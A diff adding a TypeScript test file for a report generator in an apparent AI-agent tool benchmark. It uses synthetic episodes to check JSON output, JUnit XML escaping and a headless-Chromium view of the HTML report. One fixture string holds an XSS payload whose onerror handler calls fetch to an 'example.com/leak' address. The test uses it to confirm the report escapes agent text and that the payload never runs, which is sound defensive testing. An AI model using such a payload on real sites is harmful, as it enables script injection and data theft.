@@ -1,0 +1,365 @@
+/**
+ * `mcpbench report` over a synthetic run directory (hand-written episode results, a torn last journal line):
+ * report.json, junit.xml (escaping included) and report.html, the last opened in headless Chromium: every
+ * plot drawn, the trace viewer expands an episode, no request leaves the page, a screenshot saved.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { appendFileSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import type { NodeVerdict } from '../../server/src/predicates/evaluate.ts';
+import type { CallRecord, EpisodeResult } from '../../server/src/runner/types.ts';
+import { computeScores } from '../../server/src/scoring/metrics.ts';
+import { readJournal, readRun, renderJunit, verdictText, writeReport, xmlEscape, type ReportJson, type RunConfig } from '../../server/src/scoring/report.ts';
+
+const CHROMIUM = process.env.MCPBENCH_CHROMIUM ?? '/usr/bin/chromium';
+
+const config: RunConfig = {
+  run_id: 'run-2026-05-01-test',
+  agent: 'reference',
+  fault_profile: 'light',
+  seed: 7,
+  tasks: ['fs-move', 'gh-merge', 'sup-refund', 'sup-retry'],
+  created_at: '2026-05-01T10:00:00.000Z',
+  trials: 2,
+};
+
+const HOSTILE = `<script>window.__xss = 1</script><img src="http://example.com/x.png" onerror="fetch('http://example.com/leak')"> & ]]> "q" 'a'`;
+
+const failedVerdict: NodeVerdict = {
+  path: ['success_predicate'],
+  kind: 'all',
+  value: false,
+  children: [
+    { path: ['success_predicate', 'all', 0], kind: 'leaf', name: 'filesystem.fileExists', value: false, evidence: { path: 'archive/report.txt' } },
+    {
+      path: ['success_predicate', 'all', 1],
+      kind: 'not',
+      value: true,
+      children: [{ path: ['success_predicate', 'all', 1, 'not'], kind: 'leaf', name: 'filesystem.fileExists', value: false }],
+    },
+    { path: ['success_predicate', 'all', 2], kind: 'leaf', name: 'answer.includes', value: undefined, undecided: 'bad \u0001 <arg>' },
+  ],
+};
+const passedVerdict: NodeVerdict = { path: ['success_predicate'], kind: 'leaf', name: 'filesystem.fileExists', value: true };
+
+function call(index: number, tool: string, extra: Partial<CallRecord> = {}): CallRecord {
+  return { index, tool, qualified: tool.replace('_', '.'), arguments: { path: 'report.txt' }, status: 'ok', result: { content: [{ type: 'text', text: 'ok' }] }, latency_ms: 12, ...extra };
+}
+
+function episode(fields: Partial<EpisodeResult> & Pick<EpisodeResult, 'task_id' | 'trial' | 'passed'>): EpisodeResult {
+  return {
+    run_id: config.run_id,
+    task_hash: 'abc',
+    agent: 'reference',
+    seed: 7,
+    variant: 'reference:0',
+    fault_profile: 'light',
+    perturbation: '0',
+    status: fields.passed ? 'passed' : 'failed',
+    category: 'single-tool',
+    namespaces: ['filesystem'],
+    max_steps: 6,
+    tool_calls: 1,
+    unlisted_calls: 0,
+    errors_seen: 0,
+    budget_exceeded: false,
+    calls: [call(0, 'filesystem_move_file')],
+    started_at: '2026-05-01T10:00:01.000Z',
+    duration_ms: 1500,
+    attempt: 1,
+    verdict: fields.passed ? passedVerdict : failedVerdict,
+    ...fields,
+  };
+}
+
+const results: EpisodeResult[] = [
+  episode({ task_id: 'fs-move', trial: 0, passed: true, fault_profile: 'none' }),
+  episode({
+    task_id: 'fs-move',
+    trial: 1,
+    passed: false,
+    fault_profile: 'none',
+    tool_calls: 2,
+    errors_seen: 1,
+    answer: HOSTILE,
+    calls: [
+      call(0, 'filesystem_move_file', { status: 'fault', fault: { type: 'TransientTimeout', executed: false, detail: 'timed out after 30 s' }, result: { isError: true, content: [{ type: 'text', text: 'timeout' }] }, latency_ms: 30000 }),
+      call(1, 'filesystem_read_text_file', { result: { content: [{ type: 'text', text: HOSTILE }] } }),
+    ],
+  }),
+  episode({
+    task_id: 'gh-merge',
+    trial: 0,
+    passed: true,
+    namespaces: ['github', 'chat'],
+    category: 'composition',
+    tool_calls: 3,
+    calls: [call(0, 'github_get_pull_request', { status: 'fault', fault: { type: 'HighLatency', executed: true } }), call(1, 'github_merge_pull_request'), call(2, 'chat_post_message')],
+  }),
+  episode({
+    task_id: 'gh-merge',
+    trial: 1,
+    passed: false,
+    namespaces: ['github', 'chat'],
+    category: 'composition',
+    budget_exceeded: true,
+    tool_calls: 6,
+    unlisted_calls: 1,
+    calls: [call(0, 'github_merge_pr', { status: 'unlisted', qualified: undefined, result: { isError: true } }), ...[1, 2, 3, 4, 5, 6].map((i) => call(i, 'github_get_pull_request'))],
+  }),
+  episode({
+    task_id: 'sup-refund',
+    trial: 0,
+    passed: false,
+    status: 'infra_error',
+    namespaces: ['support'],
+    category: 'recovery',
+    calls: [],
+    tool_calls: 0,
+    verdict: undefined,
+    infra_error: 'server exited with code 1\nstderr: <boom> & "quotes"',
+  }),
+  episode({
+    task_id: 'sup-retry',
+    trial: 0,
+    passed: true,
+    namespaces: ['support'],
+    category: 'recovery',
+    fault_profile: 'medium',
+    perturbation: '1',
+    errors_seen: 1,
+    tool_calls: 2,
+    calls: [call(0, 'support_refund', { status: 'fault', fault: { type: 'SoftRateLimit', executed: false, detail: 'retry-after 1 s' } }), call(1, 'support_refund')],
+  }),
+];
+
+/** The page's globals used below: the tests compile without the DOM library. */
+interface InPage {
+  document: { body: unknown };
+  getComputedStyle(element: unknown): { backgroundColor: string };
+  DOMParser: new () => { parseFromString(text: string, type: string): { querySelector(selector: string): { textContent: string | null } | null } };
+}
+
+/** A run directory as the runner leaves it after a SIGKILL mid-write: the last line torn. */
+function runDirectory(): string {
+  const dir = mkdtempSync(join(tmpdir(), 'mcpbench-report-'));
+  writeFileSync(join(dir, 'run.json'), JSON.stringify(config, null, 2));
+  writeFileSync(join(dir, 'episodes.jsonl'), results.map((r) => JSON.stringify(r) + '\n').join(''));
+  appendFileSync(join(dir, 'episodes.jsonl'), JSON.stringify(results[0]).slice(0, 57));
+  return dir;
+}
+
+test('the journal: a torn last line is skipped with a warning, a damaged middle line is reported as damage', () => {
+  const dir = runDirectory();
+  const run = readRun(dir);
+  assert.equal(run.results.length, 6);
+  assert.deepEqual(run.config, config);
+  assert.equal(run.warnings.length, 1);
+  assert.match(run.warnings[0]!, /episodes\.jsonl:7: skipped a torn last line/);
+
+  const damaged = join(dir, 'damaged.jsonl');
+  writeFileSync(damaged, `${JSON.stringify(results[0])}\n{"oops"\n${JSON.stringify(results[1])}\n\n`);
+  const journal = readJournal(damaged);
+  assert.equal(journal.results.length, 2);
+  assert.equal(journal.warnings.length, 1);
+  assert.match(journal.warnings[0]!, /damaged\.jsonl:2: .*the journal is damaged/);
+});
+
+test('run.json: missing or malformed is a clear error', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'mcpbench-report-'));
+  assert.throws(() => readRun(dir), /run\.json not found/);
+  writeFileSync(join(dir, 'run.json'), JSON.stringify({ run_id: 'x', agent: 'noop', fault_profile: 'none', created_at: 'now', seed: '1' }));
+  assert.throws(() => readRun(dir), /seed must be a number; tasks must be an array of strings/);
+});
+
+test('verdict tree as indented text, each node with its value', () => {
+  assert.equal(
+    verdictText(failedVerdict),
+    [
+      'all = false',
+      '  filesystem.fileExists = false (evidence: {"path":"archive/report.txt"})',
+      '  not = true',
+      '    filesystem.fileExists = false',
+      '  answer.includes = unknown (undecided: bad \u0001 <arg>)',
+    ].join('\n'),
+  );
+});
+
+test('XML escaping: markup characters, characters XML 1.0 cannot carry, line breaks in attributes', () => {
+  assert.equal(xmlEscape(`a<b>&"c"'d' ]]>`), 'a&lt;b&gt;&amp;&quot;c&quot;&apos;d&apos; ]]&gt;');
+  assert.equal(xmlEscape('x\u0000y\u0008z\u001f'), 'x\uFFFDy\uFFFDz\uFFFD');
+  assert.equal(xmlEscape('lone \uD800 high, lone \uDC00 low, end \uD83D'), 'lone \uFFFD high, lone \uFFFD low, end \uFFFD');
+  assert.equal(xmlEscape('pair \uD83D\uDE00 kept'), 'pair \uD83D\uDE00 kept');
+  assert.equal(xmlEscape('\uFFFE\uFFFF'), '\uFFFD\uFFFD');
+  assert.equal(xmlEscape('tab\tline\ncr\r'), 'tab\tline\ncr\r');
+  assert.equal(xmlEscape('tab\tline\ncr\r', true), 'tab&#9;line&#10;cr&#13;');
+});
+
+/** Without an XML parser in node: every `<` opens one of our tags, every `&` starts an entity. */
+function assertWellFormedish(xml: string) {
+  const body = xml.replace(/^<\?xml[^>]*\?>\n/, '');
+  const tags = [...body.matchAll(/<(\/?)([a-z]+)((?:\s+[a-z_]+="[^"<>]*")*)\s*(\/?)>/g)];
+  const stripped = body.replace(/<(\/?)([a-z]+)((?:\s+[a-z_]+="[^"<>]*")*)\s*(\/?)>/g, '');
+  assert.ok(!/[<>]/.test(stripped), 'no stray < or > outside tags');
+  assert.ok(!/&(?!(amp|lt|gt|quot|apos|#\d+);)/.test(body), 'every & starts an entity');
+  const stack: string[] = [];
+  for (const [, close, name, , selfClosing] of tags) {
+    if (close) assert.equal(stack.pop(), name, `</${name}> closes the open element`);
+    else if (!selfClosing) stack.push(name!);
+  }
+  assert.deepEqual(stack, [], 'every element closed');
+}
+
+test('junit.xml: one suite per namespace, one case per task x trial x variant, verdict trees as failures, infra errors as errors', () => {
+  const xml = renderJunit(config, results);
+  assertWellFormedish(xml);
+  const suites = [...xml.matchAll(/<testsuite name="([^"]+)" tests="(\d+)" failures="(\d+)" errors="(\d+)"/g)].map((m) => m.slice(1));
+  assert.deepEqual(suites, [
+    ['chat+github', '2', '1', '0'],
+    ['filesystem', '2', '1', '0'],
+    ['support', '2', '0', '1'],
+  ]);
+  assert.match(xml, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="mcpbench run-2026-05-01-test" tests="6" failures="2" errors="1" time="9.000">/);
+  assert.ok(xml.includes('<testcase classname="filesystem.fs-move" name="fs-move [trial 1] [reference:0] [faults none] [perturbation 0]" time="1.500">'));
+  // The failure body: the verdict tree, escaped, with the undecided leaf's control character replaced.
+  const failure = [
+    '<failure message="success predicate false" type="predicate">all = false',
+    '  filesystem.fileExists = false (evidence: {&quot;path&quot;:&quot;archive/report.txt&quot;})',
+    '  not = true',
+    '    filesystem.fileExists = false',
+    '  answer.includes = unknown (undecided: bad \uFFFD &lt;arg&gt;)',
+    '',
+    'answer: &quot;&lt;script&gt;',
+  ].join('\n');
+  assert.ok(xml.includes(failure), 'the verdict tree is the failure body');
+  assert.ok(xml.includes('injected faults: #0 filesystem_move_file: TransientTimeout</failure>'));
+  assert.ok(xml.includes('<failure message="step budget exceeded (6 calls, max_steps 6)" type="budget_exceeded">'));
+  assert.ok(
+    xml.includes(
+      '<error message="infrastructure error (not counted as an agent failure)" type="infra_error">server exited with code 1\nstderr: &lt;boom&gt; &amp; &quot;quotes&quot;</error>',
+    ),
+  );
+  assert.ok(!xml.includes('<script>') && !xml.includes('<boom>'));
+  assert.equal((xml.match(/<testcase /g) ?? []).length, 6);
+});
+
+test('report.json: scores and config; the bootstrap follows the run seed', () => {
+  const dir = runDirectory();
+  const output = writeReport(dir, { scoring: { resamples: 200 } });
+  const report = JSON.parse(readFileSync(output.files.json, 'utf8')) as ReportJson;
+  assert.deepEqual(report.run, config);
+  assert.deepEqual(report.scores, computeScores(results, { seed: 7, resamples: 200 }));
+  assert.equal(report.warnings.length, 1);
+  // 5 scored episodes (the infra error is left out), 3 passed.
+  assert.deepEqual(report.scores.episodes, { records: 6, scored: 5, passed: 3, failed: 2, infra_errors: 1, infra_unresolved: 1 });
+  assert.equal(report.scores.success_rate.value, 0.6);
+  assert.deepEqual(report.scores.recovery_rate, { value: 1, numerator: 1, denominator: 1 });
+  assert.equal(readFileSync(output.files.junit, 'utf8'), renderJunit(config, readRun(dir).results));
+  // A second report of the same run is byte for byte the same.
+  const again = writeReport(dir, { scoring: { resamples: 200 } });
+  assert.equal(readFileSync(again.files.json, 'utf8'), readFileSync(output.files.json, 'utf8'));
+  const page = readFileSync(output.files.html, 'utf8');
+  assert.ok(!/<script[^>]*\ssrc=|<link[^>]*\shref=/i.test(page), 'no external script or stylesheet');
+  assert.ok(!page.includes(HOSTILE), 'agent text is embedded as escaped JSON, never as markup');
+});
+
+test('report.html in headless Chromium: plots drawn, trace viewer expands, nothing leaves the page', {
+  skip: existsSync(CHROMIUM) ? false : `Chromium not found at ${CHROMIUM}: install Debian's chromium (CI does) or set MCPBENCH_CHROMIUM`,
+}, async () => {
+  const { chromium } = await import('playwright-core');
+  const dir = runDirectory();
+  const output = writeReport(dir, { scoring: { resamples: 200 } });
+  const userDataDir = mkdtempSync(join(tmpdir(), 'mcpbench-chromium-'));
+  const context = await chromium.launchPersistentContext(userDataDir, {
+    executablePath: CHROMIUM,
+    headless: true,
+    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
+    viewport: { width: 1280, height: 900 },
+  });
+  try {
+    const outside: string[] = [];
+    const local = (url: string) => url.startsWith('file:') || url.startsWith('data:') || url.startsWith('about:');
+    await context.route('**/*', (route) => {
+      const url = route.request().url();
+      if (local(url)) return route.continue();
+      outside.push(url);
+      return route.abort();
+    });
+    context.on('request', (request) => {
+      if (!local(request.url())) outside.push(request.url());
+    });
+    const page = context.pages()[0] ?? (await context.newPage());
+    const errors: string[] = [];
+    page.on('pageerror', (error) => errors.push(error.message));
+    page.on('console', (message) => {
+      if (message.type() === 'error') errors.push(message.text());
+    });
+    await page.goto(pathToFileURL(output.files.html).href);
+    await page.waitForSelector('body[data-rendered="true"]');
+
+    // Every plot container holds an svg with marks of the kind it draws.
+    const plots = await page.$$eval('.plot[data-mark]', (nodes) =>
+      nodes.map((n) => ({ id: n.id, marks: n.querySelectorAll(`svg g[aria-label="${n.getAttribute('data-mark')}"] > *`).length })),
+    );
+    assert.deepEqual(plots.map((p) => p.id), ['plot-namespace', 'plot-category', 'plot-surface', 'plot-passk', 'plot-faults']);
+    for (const plot of plots) assert.ok(plot.marks > 0, `${plot.id} drew its marks`);
+    const counts = Object.fromEntries(plots.map((p) => [p.id, p.marks]));
+    // Namespaces chat, filesystem, github, support (the infra error's namespace has a scored episode too).
+    assert.equal(counts['plot-namespace'], 4);
+    assert.equal(counts['plot-category'], 3);
+    // k = 1 cells: (none,0) (light,0) (medium,1).
+    assert.equal(counts['plot-surface'], 3);
+    assert.equal(counts['plot-faults'], 3);
+    // k = 2: only the two profiles whose tasks had two trials.
+    await page.selectOption('#surface-k', '2');
+    assert.equal(await page.locator('#plot-surface svg g[aria-label="cell"] > *').count(), 2);
+    await page.selectOption('#surface-k', '1');
+    assert.equal(await page.locator('#plot-surface svg g[aria-label="cell"] > *').count(), 3);
+
+    // The trace viewer: the failed fs-move trial expands into its calls, fault marked, and its verdict tree.
+    const episodes = page.locator('details.episode');
+    assert.equal(await episodes.count(), 6);
+    const target = episodes.filter({ hasText: 'fs-move' }).filter({ hasText: 'trial 1' });
+    assert.equal(await target.locator('table.calls').count(), 0, 'collapsed until clicked');
+    await target.locator('summary').click();
+    await target.locator('table.calls').waitFor();
+    assert.equal(await target.locator('table.calls tbody tr').count(), 2);
+    assert.equal(await target.locator('tr.fault .fault-mark').innerText(), '⚡ TransientTimeout (not executed): timed out after 30 s');
+    assert.deepEqual(await target.locator('ul.verdict .v').allInnerTexts(), ['false', 'false', 'true', 'false', 'unknown']);
+    assert.ok((await target.locator('table.calls').innerText()).includes('<script>window.__xss = 1</script>'), 'agent output shown as text');
+    assert.equal(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss), undefined, 'agent output never runs');
+    assert.equal(await page.locator('#episode-list img').count(), 0);
+
+    const screenshot = join(dirname(output.files.html), 'report.png');
+    await page.screenshot({ path: screenshot, fullPage: true });
+    console.log(`report screenshot: ${screenshot}`);
+    // The dark theme really switches.
+    const light = await page.evaluate(() => {
+      const w = globalThis as unknown as InPage;
+      return w.getComputedStyle(w.document.body).backgroundColor;
+    });
+    await page.emulateMedia({ colorScheme: 'dark' });
+    const dark = await page.evaluate(() => {
+      const w = globalThis as unknown as InPage;
+      return w.getComputedStyle(w.document.body).backgroundColor;
+    });
+    assert.notEqual(light, dark);
+    await page.screenshot({ path: join(dirname(output.files.html), 'report-dark.png'), fullPage: true });
+
+    // junit.xml parses as XML in the browser, and the failure text round-trips.
+    const parsed = await page.evaluate((xml) => {
+      const doc = new (globalThis as unknown as InPage).DOMParser().parseFromString(xml, 'application/xml');
+      return { error: doc.querySelector('parsererror')?.textContent ?? null, failure: doc.querySelector('failure')?.textContent ?? null };
+    }, readFileSync(output.files.junit, 'utf8'));
+    assert.equal(parsed.error, null);
+    assert.ok(parsed.failure?.startsWith('all = false\n  filesystem.fileExists = false'));
+
+    assert.deepEqual(outside, [], 'no request left the page');
+    assert.deepEqual(errors, [], 'no script error');
+  } finally {
+    await context.close();
+  }
+});
